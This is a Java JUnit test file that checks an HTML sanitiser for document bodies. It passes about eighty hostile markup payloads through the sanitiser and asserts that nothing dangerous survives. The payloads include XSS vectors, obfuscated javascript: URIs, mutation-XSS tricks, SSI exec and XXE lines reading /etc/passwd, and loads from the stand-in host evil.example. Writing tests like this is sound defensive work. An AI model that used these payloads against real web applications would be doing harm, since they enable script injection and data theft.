package org.huizheng.document;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Locale;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Ways to smuggle something through, each between two words that must come through. */
class HostileMarkupTests {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<scr\0ipt>alert(1)</scr\0ipt>",
                "<script/x>alert(1)</script\t\n>",
                "<<script>alert(1)//<</script>",
                "<img src=x onerror=alert(1)>",
                "<img src=x onerror\n=\nalert(1)//",
                "<img/src='x'/onerror='alert(1)'>",
                "<img src=\"attachment:a.png\" onload=\"alert(1)\">",
                "<p onclick=alert(1) onmouseover='alert(2)'>字</p>",
                "<details open ontoggle=alert(1)>字</details>",
                "<a href=\"javascript:alert(1)\">字</a>",
                "<a href=\" \u0001javascript:alert(1)\">字</a>",
                "<a href=\"jav&#x09;ascript:alert(1)\">字</a>",
                "<a href=\"java\nscript:alert(1)\">字</a>",
                "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">字</a>",
                "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">字</a>",
                "<a href=\"javascript&colon;alert(1)\">字</a>",
                "<a href=\"JaVaScRiPt:alert(1)\">字</a>",
                "<a href=\"vbscript:msgbox(1)\">字</a>",
                "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">字</a>",
                "<a href=\"\u200bjavascript:alert(1)\">字</a>",
                "<a href=\"ｊavascript:alert(1)\">字</a>",
                "<a href=\"//evil.example/\">字</a>",
                "<a href=\"\\\\evil.example\\x\">字</a>",
                "<a href=\"/\\evil.example\">字</a>",
                "<a href=\"https:\t//evil.example\">字</a>",
                "<a href=\"feed:javascript:alert(1)\">字</a>",
                "<a href=\"file:///etc/passwd\">字</a>",
                "<a href=\"blob:https://x/1\">字</a>",
                "<a href=\"https://www.gov.cn/\u202egpj.exe\">字</a>",
                "<svg onload=alert(1)><path/></svg>",
                "<svg><script>alert(1)</script></svg>",
                "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
                "<svg><style><img src=x onerror=alert(1)></style></svg>",
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\"></math>",
                "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
                "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></form></math>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
                "<xmp><img src=x onerror=alert(1)></xmp>",
                "<style><img src=\"</style><img src=x onerror=alert(1)//\"></style>",
                "<p style=\"width:expression(alert(1))\">字</p>",
                "<p style=\"background:url(javascript:alert(1))\">字</p>",
                "<p style=\"-moz-binding:url(//evil.example/x.xml)\">字</p>",
                "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">字</p>",
                "<p style=\"text-align:center;behavior:url(x.htc)\">字</p>",
                "<style>@import '//evil.example/x.css';</style>",
                "<link rel=stylesheet href=//evil.example/x.css>",
                "<meta http-equiv=refresh content='0;url=//evil.example'>",
                "<base href=//evil.example/>",
                "<iframe src=//evil.example></iframe>",
                "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
                "<object data=x.swf></object><embed src=x.swf><applet code=x></applet>",
                "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
                "<h2 id=\"main\" name=\"body\">字</h2><p id=location>字</p><img name=getElementById src=x>",
                "<a id=fn-1 href=#fn-1>字</a><p id=fn-1>字</p><p id=fn-1>字</p>",
                "<img srcset=\"//evil.example/x 1x\" src=\"attachment:a.png\" sizes=1px>",
                "<picture><source srcset=//evil.example/x><img src=//evil.example/y></picture>",
                "<video src=//evil.example/v.mp4 poster=javascript:alert(1) autoplay></video>",
                "<video><source src=//evil.example onerror=alert(1)></video>",
                "<p><!--#include virtual=\"/etc/passwd\" -->字</p>",
                "<p><!--#exec cmd=\"id\"-->字</p>",
                "<!--[if IE]><script>alert(1)</script><![endif]-->",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<?php echo 1 ?><?xml version=\"1.0\"?><%= x %>",
                "<!DOCTYPE html [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>&x;",
                "<p class=\"gw-note evil\" data-x=1 contenteditable tabindex=1 slot=a is=b>字</p>",
                "<p>\u202e倒\u2066着\u2069\ufeff\u200b字</p>",
                "<p>\ud800字\udfff\u0000\u0007\u009f</p>",
                "<x-evil onclick=alert(1)>字</x-evil><blink>字</blink>",
                "<table background=javascript:alert(1)><tr><td background=x onclick=y>字</td></tr></table>",
                "<template><script>alert(1)</script></template><slot onslotchange=alert(1)></slot>",
                "<body onload=alert(1)><frameset onload=alert(2)><frame src=javascript:alert(3)>",
                "<textarea><script>alert(1)</script></textarea><title><script>alert(1)</script></title>",
                "<ruby onclick=alert(1)>字<rt><img src=x onerror=alert(1)></rt></ruby>",
                "<p title='\"><script>alert(1)</script>'>字</p><a href='#h-1\"onmouseover=\"alert(1)'>字</a>",
                "<img src=\"attachment:a&quot; onerror=&quot;alert(1).png\" alt='\"><script>'>",
                "<img src=\"/files/../../etc/passwd\"><img src=\"/files/7/a.png\\..\\x\">",
                "<img src=\"media:1;x\" alt=x><a href=\"media:1//evil.example/x\">字</a><a href=\"media:javascript:alert(1)\">字</a>",
                "<area href=javascript:alert(1)><map name=x><isindex action=javascript:alert(1)>",
                "<v:shape onmouseover=alert(1)><v:imagedata src=\"file:///C:/x.png\"/></v:shape>",
                "<xml><o:OfficeDocumentSettings/></xml><o:p onclick=alert(1)></o:p>"
            })
    void nothingComesThrough(String attack) {
        String given = "<p>之前</p>" + attack + "<p>之后</p>";
        String saved = BodyMarkup.sanitised(given, BodyFormat.HTML, name -> name);
        Harmless.check(saved);
        Harmless.check(new CleanBody().perform(given).html());
        assertThat(saved).startsWith("<p>之前").doesNotContain("evil.example/x");
        assertThat(saved.toLowerCase(Locale.ROOT)).doesNotContain("javascript:", "<script", "expression(");
        assertThat(BodyMarkup.sanitised(saved, BodyFormat.HTML, name -> name)).isEqualTo(saved);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                "&lt;!--#include virtual=\"/etc/passwd\" --&gt;",
                "{{ secret }} {% body %} ${x} #{x}"
            })
    void whatOnlyLooksHostileIsText(String text) {
        String saved = BodyMarkup.sanitised("<p>" + text + "</p>", BodyFormat.HTML, name -> name);
        assertThat(saved).isEqualTo("<p>" + text + "</p>");
    }
}
